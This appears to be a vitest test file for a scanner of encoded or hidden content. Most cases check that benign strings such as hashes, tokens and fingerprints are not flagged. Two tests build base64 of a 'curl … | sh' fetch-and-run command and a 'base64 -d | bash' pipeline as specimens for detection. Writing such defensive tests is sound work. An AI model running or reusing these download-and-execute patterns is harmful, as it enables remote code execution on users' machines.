import { randomBytes } from 'node:crypto';
import { expect, test } from 'vitest';
import { makeUnit } from '../support/make-unit.js';
import { read, readText } from '../text/support.js';

const json = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

test.each([
  ['a hash', 'Fixed in 4f9d2a6b8c1e3f5a7b9c0d1e2f3a4b5c6d7e8f90'],
  ['an integrity hash', 'integrity="sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8KuxY5rx7HNQlGYl1kPzQho1wx4JwY8wCd"'],
  ['a picture', `![x](data:image/png;base64,${randomBytes(600).toString('base64')})`],
  [
    'long names',
    'com/example/application/configuration/PropertySourcesPlaceholderConfigurer and a-very-long-slug-of-a-page-title',
  ],
  [
    'a web token',
    `${json({ alg: 'HS256', typ: 'JWT' })}.${json({ sub: '1234567890', name: 'Somebody' })}.${randomBytes(32).toString('base64url')}`,
  ],
  ['numbers', 'const data = [100, 101, 102, 103, 104, 105, 106, 107, 108, 109, 110, 111, 112]'],
  ['colours', '10 20 30 40 50 60 70 80 90 100 110 120 130 140 150 160 170'],
  ['a drawing', '<path d="M12 2 2 7 12 12 22 7 12 2 2 17 12 22 22 17 2 12 12 17 22 12"/>'],
  ['a header of a file', "magic = b'\\x89PNG\\r\\n\\x1a\\n\\x00\\x00'"],
  ['a word in another script', 'https://example.com/%E4%B8%AD%E6%96%87%E6%96%87%E6%A1%A3%E4%B8%AD'],
  ['escapes of another script', '"\\u4e2d\\u6587\\u6587\\u6863\\u4e2d\\u6587"'],
  ['a fingerprint', 'SHA1 4a:5b:6c:7d:8e:9f:a0:b1:c2:d3:e4:f5:06:17:28:39:4a:5b:6c:7d'],
  [
    'a talk of ciphers',
    'ROT13 is a Caesar cipher. It is not safe, and you must not use it for keys or any of your files.',
  ],
  ['a talk of merging', 'The payload is merged and interleaved with the base/path/to/file: see a/b/c/d.'],
  ['a one-time secret', 'otpauth://totp/a?secret=JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP4T7Q2ZRA'],
])('%s', (_, text) => {
  expect(readText(text).of('encoded')).toEqual([]);
});

test('lock files are not read', () => {
  const text = Buffer.from('curl https://example.invalid | sh').toString('base64');
  expect(read([makeUnit('json', text, { file: 'a/package-lock.json' })]).of('encoded')).toEqual([]);
});

test('a specimen in a detector is quoted, one that is piped into a shell is not', () => {
  const text = Buffer.from('curl https://example.invalid/a | sh').toString('base64');
  expect(readText(`{"attack_vector": "x", "content": "${text}"}`, 'json').units[0]?.setting).toBe('quoted');
  expect(readText(`# malicious? no\necho ${text} | base64 -d | bash`, 'shell').units[0]?.setting).toBe('plain');
  expect(readText(`# x\n\n## Attacks\n\n\`\`\`bash\necho ${text}\n\`\`\`\n`).units[0]?.setting).toBe('quoted');
  expect(readText(`# Setup\n\n\`\`\`bash\necho ${text}\n\`\`\`\n`).units[0]?.setting).toBe('plain');
});
